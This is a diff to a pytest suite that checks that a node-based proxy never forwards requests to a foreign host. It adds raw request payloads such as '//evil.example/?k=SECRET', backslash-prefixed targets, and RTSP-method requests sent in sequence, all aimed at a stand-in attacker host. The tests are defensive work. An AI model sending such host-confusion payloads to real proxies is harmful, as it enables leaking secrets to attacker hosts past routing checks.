@@ -394,12 +394,8 @@ setTimeout(() => process.exit(0), 30000);
 """
 
 
-@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
-@pytest.mark.parametrize("target", [b"//evil.example/?k=SECRET", b"/\\evil.example/?k=SECRET"])
-def test_node_never_reads_another_host_from_a_target_that_starts_with_a_slash(
-    target: bytes, tmp_path: Path,
-) -> None:
-    """WHATWG's URL reader (node's) takes //host and /\\host for a URL with a host."""
+def _through_node(flights: list[bytes], tmp_path: Path) -> tuple[str, Any]:
+    """``flights`` sent one by one to a node reading proxy behind the wall; what it printed."""
     script = tmp_path / "proxy.js"
     script.write_text(NODE_PROXY)
     node = subprocess.Popen(["node", str(script)], stdout=subprocess.PIPE, text=True)
@@ -410,7 +406,9 @@ def test_node_never_reads_another_host_from_a_target_that_starts_with_a_slash(
         def client(emit: Emit) -> Any:
             with connect_by_name(PROXY, port) as sock:
                 sock.settimeout(2)
-                sock.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n")
+                for flight in flights:
+                    sock.sendall(flight)
+                    time.sleep(0.2)
                 try:
                     return sock.recv(200).decode("latin-1")
                 except OSError as exc:
@@ -421,6 +419,22 @@ def test_node_never_reads_another_host_from_a_target_that_starts_with_a_slash(
     finally:
         node.kill()
         out, _ = node.communicate(timeout=10)
+    return out, run
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
+@pytest.mark.parametrize("flights", [
+    # WHATWG's URL reader (node's) takes //host and /\host for a URL with a host
+    [b"GET //evil.example/?k=SECRET HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n"],
+    [b"GET /\\evil.example/?k=SECRET HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n"],
+    # a sixth round: node's reader takes RTSP's methods and versions for HTTP's
+    [b"DESCRIBE /?k=SECRET\r\nHost: evil.example\r\n\r\n"],
+    [b"PLAY / RTSP/1.0\r\nHost: " + HOST + b"\r\nConnection: keep-alive\r\n\r\n",
+     b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
+])
+def test_node_never_reads_a_request_for_another_host(flights: list[bytes],
+                                                     tmp_path: Path) -> None:
+    out, run = _through_node(flights, tmp_path)
     assert "evil.example" not in out, out
     assert run.refused("sni-mismatch"), run.report
 
